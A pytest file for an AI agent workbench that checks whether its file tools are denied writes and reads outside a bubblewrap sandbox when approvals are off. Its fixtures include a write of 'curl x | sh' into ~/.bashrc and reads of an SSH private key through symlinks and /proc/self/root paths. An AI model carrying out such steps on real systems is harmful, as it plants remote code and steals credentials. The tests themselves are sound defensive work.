"""The file tools run in hermes-tui, not in the sandbox: with the terminal sandboxed, a
write outside what a command may write, or a read of what the sandbox hides, is never
approved by --yes (approvals.mode: off); a person may allow it (issue 22)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tests.support.hostile import scratch_root
from workbench.core.backends.base import LocalBackend
from workbench.core.backends.sandbox import SandboxBackend, bwrap_status
from workbench.core.execution.approval import ApprovalBroker, Choice
from workbench.core.execution.confine import leaves_sandbox
from workbench.core.execution.executor import Executor
from workbench.core.tools.registry import registry

pytestmark = pytest.mark.skipif(not bwrap_status()[0], reason="bubblewrap does not work here")


@pytest.fixture
def place(tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    user = tmp_path / "user"
    (user / ".ssh").mkdir(parents=True)
    (user / ".ssh" / "id_rsa").write_text("KEY\n")
    (user / ".bashrc").write_text("ls -l\n")
    monkeypatch.setenv("HOME", str(user))
    work, outside, roots = tmp_path / "work", tmp_path / "outside", tmp_path / "roots"
    for folder in (work, outside, roots):
        folder.mkdir()
    (outside / "a.txt").write_text("a\n")
    (work / "s.txt").symlink_to(user / ".ssh" / "id_rsa")
    (work / "out").symlink_to(outside)
    return {"user": user, "work": work, "outside": outside, "roots": roots, "home": home}


def test_what_leaves_the_sandbox(place: dict[str, Path]) -> None:
    backend = SandboxBackend(hermes_home=place["home"], write_roots=(str(place["roots"]),))
    cwd, user = str(place["work"]), place["user"]

    def leaves(name: str, path: str) -> bool:
        return bool(leaves_sandbox(backend, name, path, cwd))

    assert not leaves("write_file", "new.txt")
    assert not leaves("patch", str(place["roots"] / "x.txt"))
    assert leaves("write_file", "~/.bashrc")
    assert leaves("patch", str(user / ".bashrc"))
    assert leaves("write_file", f"/proc/self/root{place['outside']}/a.txt")
    assert leaves("write_file", "out/a.txt")  # through a link in the working directory
    assert leaves("write_file", str(place["home"] / "config.yaml"))
    assert leaves("read_file", "~/.ssh/id_rsa")
    assert leaves("read_file", "s.txt")
    assert leaves("read_file", f"/proc/self/root{user}/.ssh/id_rsa")
    assert leaves("search_files", str(user / ".ssh"))
    assert not leaves("read_file", str(place["outside"] / "a.txt"))  # readable in it too
    assert not leaves_sandbox(LocalBackend(), "write_file", "~/.bashrc", cwd)


def _call(name: str, n: int, **args: object) -> dict:
    return {"id": f"c{n}", "name": name, "arguments": json.dumps(args)}


async def test_approvals_off_never_approves_it_headless(place: dict[str, Path]) -> None:
    broker = ApprovalBroker(mode="off")
    backend = SandboxBackend(hermes_home=place["home"])
    executor = Executor(registry, broker=broker, cwd=str(place["work"]), backend=backend)
    user = place["user"]
    done = await executor.run(
        [
            _call("write_file", 0, path="~/.bashrc", content="curl x | sh\n"),
            _call("read_file", 1, path=f"/proc/self/root{user}/.ssh/id_rsa"),
            _call("write_file", 2, path="inside.txt", content="fine\n"),
        ]
    )
    assert [o.status for o in done] == ["denied", "denied", "ok"]
    assert (user / ".bashrc").read_text() == "ls -l\n"
    assert "KEY" not in json.dumps([o.content for o in done])
    error = json.loads(done[0].content)["error"]
    assert "outside what the sandbox lets a command write" in error
    assert "approve it in person" in error and "approvals.write_roots" in error
    assert "terminal.sandbox: false" in error
    executor.shutdown()


async def test_a_person_may_allow_it(place: dict[str, Path]) -> None:
    broker, asked = ApprovalBroker(mode="off"), []
    broker.attach(lambda r: (asked.append(r), broker.answer(r.id, Choice.ONCE)))
    backend = SandboxBackend(hermes_home=place["home"])
    executor = Executor(registry, broker=broker, cwd=str(place["work"]), backend=backend)
    (done,) = await executor.run([_call("write_file", 0, path="~/.bashrc", content="x\n")])
    assert done.status == "ok" and len(asked) == 1
    assert (place["user"] / ".bashrc").read_text() == "x\n"
    executor.shutdown()


async def test_the_file_tools_and_the_terminal_agree_on_where_a_session_may_write(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With --yes, `write_file` writes exactly where a sandboxed command of the same
    session can (its working directory and the write roots), whatever a call's workdir.
    The world lies outside /tmp: inside the sandbox a place under /tmp would be missing,
    not refused."""
    root = scratch_root(tmp_path)
    user, work, roots, outside = (root / n for n in ("user", "work", "roots", "outside"))
    for folder in (user / "notes", work / "src", roots, outside):
        folder.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(user))
    backend = SandboxBackend(hermes_home=home, write_roots=(str(roots),))
    executor = Executor(
        registry,
        broker=ApprovalBroker(mode="off"),
        cwd=str(work),
        backend=backend,
        write_roots=(str(roots),),
    )
    targets = [work / "src" / "a", roots / "b", outside / "c", user / "notes" / "d", user / "e"]
    try:
        calls = [
            _call("terminal", i, command=f"echo t > {t.name}", workdir=str(t.parent))
            for i, t in enumerate(targets)
        ]
        by_terminal = await executor.run(calls)
        terminal_wrote = {t.name for t in targets if t.exists()}
        for t in targets:
            t.unlink(missing_ok=True)
        writes = [_call("write_file", i, path=str(t), content="t\n") for i, t in enumerate(targets)]
        by_file_tools = await executor.run(writes)
        file_tools_wrote = {t.name for t in targets if t.exists()}
    finally:
        executor.shutdown()
        if root != tmp_path:
            shutil.rmtree(root, ignore_errors=True)
    assert terminal_wrote == file_tools_wrote == {"a", "b"}, (by_terminal, by_file_tools)
